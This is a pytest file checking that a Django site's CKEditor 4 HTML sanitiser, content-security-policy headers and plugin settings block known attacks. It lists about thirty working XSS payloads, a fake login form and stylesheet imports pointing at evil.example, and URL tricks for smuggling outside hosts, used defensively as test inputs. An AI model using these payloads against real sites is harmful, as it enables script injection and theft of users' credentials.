"""CKEditor 4: its known vulnerabilities cannot be used, so `ckeditor.W001` is silenced."""

import random
import re
from html.parser import HTMLParser
from pathlib import Path

import ckeditor
import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.urls import resolve

from core.richtext.cleaning import clean_html
from core.richtext.widgets import RichTextWidget
from core.static_finders import is_used

EDITOR = settings.CKEDITOR_CONFIGS["default"]

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    '<img src="/media/a.jpg" onload=alert(1)>',
    '<p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="javascript:alert(1)">',
    '<iframe src="/x"></iframe><iframe srcdoc="<script>alert(1)</script>">',
    "<object data=x></object><embed src=x><applet code=x>",
    '<form action="//evil.example"><input name="password"><button>Log in</button></form>',
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>{cke_protected}<cke:encoded>%3Cscript%3Ealert(1)%3C%2Fscript%3E</cke:encoded></p>",
    '<img srcset="//evil.example/x 2x" src="/media/a.jpg"><video poster=//evil.example><audio>',
    '<a href="/x" target="_blank" ping="//evil.example" download>x</a>',
    "<h1/onclick=alert(1)>x</h1><b\tonclick=alert(1)>x</b>",
    '<div id="csrfmiddlewaretoken" name="cookie" class="cke_dialog modal">x</div>',
    "<template><img src=x onerror=alert(1)></template><title><img src=x onerror=alert(1)></title>",
]
FORBIDDEN = (
    "<script", "<style", "<iframe", "<form", "<input", "<svg", "<math", "<object", "<embed",
    "<link", "<meta", "<base", "<video", "<template", "<!--", " on", " style=", " id=", " target=",
    " srcset=", "javascript:", "vbscript:", "data:", "evil.example", "cke_dialog",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_removed(attack):
    cleaned = clean_html(attack)
    assert not [word for word in FORBIDDEN if word in cleaned.lower()], cleaned
    assert clean_html(cleaned) == cleaned


TAGS = {
    "p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "pre", "hr", "br", "table", "caption",
    "thead", "tbody", "tfoot", "tr", "th", "td", "a", "strong", "em", "u", "s", "sub", "sup",
    "code", "img", "figure", "figcaption", "div",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "width", "height", "loading", "class",
              "colspan", "rowspan", "scope"}  # fmt: skip


class Markup(HTMLParser):
    """The names of the tags and attributes in `html`."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_broken_markup_is_reduced_to_what_is_allowed_and_cleaning_again_changes_nothing():
    parts = [*"<>\"'&/=! \n", *ATTACKS, "<h1>", "</b>", "<table><p>", "<td>", "//host", "<a href="]
    chance = random.Random(4)  # noqa: S311 -- the same sequence in each run
    for _ in range(3000):
        mixed = "".join(chance.choices(parts, k=8))
        cleaned = clean_html(mixed)
        left = Markup(cleaned)
        assert left.tags <= TAGS, mixed
        assert left.attributes <= ATTRIBUTES, mixed
        assert clean_html(cleaned) == cleaned, mixed


OUTSIDE = [
    "https://evil.example/x",
    "HTTP://evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "/\t/evil.example/x",
    "\x01//evil.example/x",
    " //evil.example/x",
    "https:evil.example/x",
    "https://www.example.com.evil.example/x",
    "https://www.example.com@evil.example/x",
]


@pytest.mark.parametrize("url", OUTSIDE)
def test_a_link_to_another_host_is_marked_as_external_and_nofollow(url, settings):
    settings.SITE_URL = "https://www.example.com"
    html = clean_html(f'<a title="a > b" href="{url}" rel="opener">x</a>')
    assert 'rel="nofollow noopener noreferrer"' in html
    assert html.count("rel=") == 1


@pytest.mark.parametrize("url", [*OUTSIDE, "x.jpg", "mailto:a@example.com", ""])
def test_a_picture_from_another_host_is_dropped(url, settings):
    settings.SITE_URL = "https://www.example.com"
    assert clean_html(f'<p>a<img alt="b" src="{url}">c</p>') == "<p>ac</p>"


def test_a_picture_of_the_site_is_allowed_and_loaded_lazily():
    html = clean_html(
        '<img src="/media/pictures/a.jpg" alt="a" loading="eager" fetchpriority="high">'
    )
    assert html == '<img src="/media/pictures/a.jpg" alt="a" loading="lazy">'


def test_the_editor_allows_no_whole_documents_and_no_unfiltered_content():
    assert {"fullPage", "allowedContent", "protectedSource"}.isdisjoint(EDITOR)
    assert "script" not in EDITOR["extraAllowedContent"]
    assert "style" not in EDITOR["extraAllowedContent"]
    assert EDITOR["disallowedContent"].startswith("*{*}; *[on*];")


def test_plugins_with_known_vulnerabilities_are_disabled():
    removed = set(EDITOR["removePlugins"].split(","))
    assert removed >= {
        "iframe", "flash", "scayt", "wsc", "exportpdf", "embed", "autoembed", "preview", "forms",
        "templates", "codesnippetgeshi", "docprops", "stylesheetparser", "sourcearea",
        "wysiwygarea",
    }  # fmt: skip
    assert removed.isdisjoint(EDITOR["extraPlugins"].split(","))


def test_the_editor_does_not_ask_another_host_for_new_versions():
    assert EDITOR["versionCheck"] is False


def test_the_editors_own_uploads_and_browser_are_not_mounted():
    assert "ckeditor_uploader" not in settings.INSTALLED_APPS
    for path in ("/ckeditor/upload/", "/ckeditor/browse/", "/en/ckeditor/upload/"):
        assert resolve(path).url_name == "page"  # the fallback, which finds no such page


def test_the_editors_scripts_are_own_files_in_the_required_order():
    scripts = [str(script) for script in RichTextWidget().media._js]
    assert all("//" not in script for script in scripts)
    assert scripts.index("admin/richtext.js") > scripts.index("ckeditor/ckeditor/ckeditor.js")


def test_a_form_has_an_editor_with_the_upload_url_for_each_language(admin_client):
    html = admin_client.get("/admin/news/article/add/").content.decode()
    for language in ("en", "zh_hans", "ar"):
        assert f'data-id="id_body_{language}" data-type="ckeditortype"' in html
    assert html.count("&quot;imageUploadUrl&quot;: &quot;/admin/richtext/upload/&quot;") == 3
    assert html.count("admin/richtext.js") == 1
    assert "<script>" not in html


def policy_of(response):
    directives = response.headers["Content-Security-Policy"].split("; ")
    return {name: set(sources) for name, *sources in map(str.split, directives)}


@pytest.mark.parametrize("path", ["/admin/news/article/add/", "/admin/products/product/add/"])
def test_a_form_with_the_editor_allows_it_its_attributes_but_no_script_elements(path, admin_client):
    policy = policy_of(admin_client.get(path))
    assert policy["script-src"] == {"'self'"}
    assert policy["script-src-attr"] == {"'unsafe-inline'"}
    assert policy["style-src"] == {"'self'", "'unsafe-inline'"}
    assert policy["img-src"] == {"'self'", "data:"}
    assert policy["default-src"] == {"'none'"}
    assert "script-src-elem" not in policy


@pytest.mark.parametrize(
    "path", ["/admin/login/", "/admin/", "/admin/news/article/", "/admin/richtext/picture/"]
)
def test_no_other_page_allows_anything_inline(path, admin_client):
    response = admin_client.get(path)
    assert "unsafe" not in response.headers["Content-Security-Policy"]
    assert policy_of(response)["script-src"] == {"'self'"}


def test_files_of_the_editor_with_known_holes_are_not_collected():
    collected = (path for finder in finders.get_finders() for path, _storage in finder.list([]))
    assert not [path for path in collected if "samples" in path]
    assert not is_used("ckeditor/ckeditor/samples/ajax.html")
    assert is_used("ckeditor/ckeditor/ckeditor.js")
    plugins = Path(ckeditor.__file__).parent / "static/ckeditor/ckeditor/plugins"
    for name in ("preview", "codesnippetgeshi"):
        files = [path for path in (plugins / name).rglob("*") if path.is_file()]
        assert files
        for file in files:
            assert finders.find(f"ckeditor/ckeditor/plugins/{file.relative_to(plugins)}") is None
    assert finders.find("ckeditor/ckeditor/plugins/image2/plugin.js")


def test_every_hole_in_security_md_names_a_test_that_exists():
    text = (Path(settings.BASE_DIR) / "SECURITY.md").read_text()
    rows = [row for row in text.splitlines() if row.startswith("| CVE-")]
    assert len(rows) >= 6
    for row in rows:
        named = re.findall(r"`(test_\w+)`", row)
        assert named or "the same two" in row, row
        assert set(named) <= globals().keys(), row
